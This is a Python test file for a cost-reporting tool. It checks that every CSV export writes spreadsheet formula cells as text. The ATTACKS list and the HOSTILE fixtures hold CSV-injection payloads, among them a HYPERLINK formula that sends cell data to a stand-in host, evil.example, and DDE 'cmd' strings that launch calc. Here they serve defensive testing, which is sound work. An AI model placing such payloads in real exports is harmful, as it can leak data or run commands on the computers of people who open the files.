"""One CSV writer: no cell a spreadsheet would run as a formula, in every CSV we emit.

Names, emails and model names come from outside (Cursor, allocation files), so a member
called ``=HYPERLINK(…)`` must reach the CLI report, ``/people.csv`` and the FOCUS export
as text; negative amounts must stay numbers and the FOCUS export must stay valid FOCUS.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
import sqlalchemy as sa
from typer.testing import CliRunner

from devspend.cli import build_app
from devspend.csv_writer import cell_text, csv_chunks, csv_text, neutralise
from devspend.focus.conformance import check_file
from devspend.focus.exporter import export_focus
from devspend.settings import Settings
from focus_usage import Usage, insert_usage
from web_support import ADMIN_EMAIL, build_env, signed_in

ATTACKS = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DAY = date(2025, 1, 31)
# Emails and model names a hostile team could register; a credit makes a negative amount.
HOSTILE = [
    Usage(DAY, "=HYPERLINK(\"http://evil.example\")@example.com", "@SUM(1)", "Usage-based",
          False, 10, 0, 0, 0, -5_000_000, -5_000_000, 0, 0, 1, 1, -5_000_000),
    Usage(DAY, "+cmd@example.com", "-2+3+cmd", "Usage-based", False,
          10, 0, 0, 0, 1_000_000, 1_000_000, 0, 0, 1, 1, 1_000_000),
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_cells_are_written_as_text(attack: str) -> None:
    assert neutralise(attack) == "'" + attack
    [row] = list(csv.reader(io.StringIO(csv_text(["name"], [[attack]]), newline="")))[1:]
    assert row == ["'" + attack]


def test_numbers_and_ordinary_text_are_left_as_they_are() -> None:
    for number in ("-12.5", "-3", "0", "12.000001"):
        assert neutralise(number) == number
    assert cell_text(Decimal("-0.05000000")) == "-0.05000000"
    assert cell_text(-7) == "-7"
    assert cell_text(None) == ""
    assert cell_text(True) == "true"
    assert cell_text(date(2025, 1, 31)) == "2025-01-31"
    assert neutralise("ada@example.com") == "ada@example.com"
    assert neutralise("-1e3") == "'-1e3"  # not a plain decimal: a spreadsheet would compute it
    assert neutralise("a=b") == "a=b"


def test_chunks_join_to_the_same_text() -> None:
    rows = [[i, f"=x{i}"] for i in range(25)]
    assert "".join(csv_chunks(["n", "v"], rows, rows_per_chunk=4)) == csv_text(["n", "v"], rows)


def test_focus_export_neutralises_names_and_stays_valid_focus(
    engine: sa.Engine, settings: Settings, tmp_path: Path
) -> None:
    insert_usage(engine, HOSTILE)
    path = tmp_path / "export.csv"
    export_focus(engine, settings=settings, first_day=DAY, last_day=DAY, fmt="csv", out=path)
    assert check_file(path) == []
    rows = list(csv.DictReader(path.open(encoding="utf-8")))
    by_email = {r["x_UserEmail"]: r for r in rows}
    assert set(by_email) == {"'" + HOSTILE[0].email, "'" + HOSTILE[1].email}
    credit = by_email["'" + HOSTILE[0].email]
    assert credit["SkuId"] == "'@SUM(1)"
    assert credit["BilledCost"] == credit["EffectiveCost"] == "-0.05000000"
    assert by_email["'+cmd@example.com"]["SkuId"] == "'-2+3+cmd"
    for row in rows:
        assert not any(v.startswith(("=", "+", "@")) for v in row.values())


@pytest.fixture
def cli_env(monkeypatch: pytest.MonkeyPatch, settings: Settings) -> None:
    monkeypatch.setenv("DEVSPEND_DATABASE_URL", settings.effective_database_url)
    monkeypatch.setenv("DEVSPEND_DATA_DIR", str(settings.data_dir))
    monkeypatch.setenv("DEVSPEND_SECRET_KEY", "x" * 32)


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_cli_report_and_export_csv_neutralise(cli_env: None, engine: sa.Engine) -> None:
    insert_usage(engine, HOSTILE)
    runner, app = CliRunner(), build_app()
    period = ["--from", str(DAY), "--to", str(DAY), "--format", "csv"]
    for command in (["report", "users"], ["report", "models"]):
        result = runner.invoke(app, [*command, *period])
        assert result.exit_code == 0, result.output
        cells = _cells(result.output)
        assert any(c.startswith("'") for c in cells), result.output
        assert not any(c.startswith(("=", "+", "@")) for c in cells)
        assert "-5" in cells  # the credit stays a number
    exported = runner.invoke(app, ["export", "focus", "--from", str(DAY), "--to", str(DAY)])
    assert exported.exit_code == 0, exported.output
    assert "'=HYPERLINK" in exported.output
    assert not any(c.startswith(("=", "+", "@")) for c in _cells(exported.output))


def test_people_csv_neutralises(settings: Settings, engine: sa.Engine) -> None:
    insert_usage(engine, HOSTILE)
    env = build_env(settings, engine)
    with signed_in(env, ADMIN_EMAIL, "admin") as client:
        response = client.get(f"/people.csv?range=custom&start={DAY}&end={DAY}")
        assert response.status_code == 200, response.text
        rows = list(csv.DictReader(io.StringIO(response.text)))
        assert {r["email"] for r in rows} == {"'" + u.email for u in HOSTILE}
        assert not any(c.startswith(("=", "+", "@")) for c in _cells(response.text))
        exported = client.get(f"/settings/cloud-costs/export?range=custom&start={DAY}&end={DAY}")
        assert exported.status_code == 200, exported.text
        assert "'=HYPERLINK" in exported.text


def test_no_csv_is_written_around_the_shared_writer() -> None:
    """Every CSV devspend emits goes through csv_writer (one place to neutralise)."""
    src = Path(__file__).resolve().parents[1] / "src" / "devspend"
    # focus/sample.py writes the demo's own generated FOCUS input, no outside text in it
    allowed = {src / "csv_writer.py", src / "focus" / "sample.py"}
    offenders = [
        str(path.relative_to(src)) for path in src.rglob("*.py")
        if path not in allowed and any(call in path.read_text(encoding="utf-8")
                                       for call in ("csv.writer(", "csv.DictWriter("))
    ]  # fmt: skip
    assert offenders == []
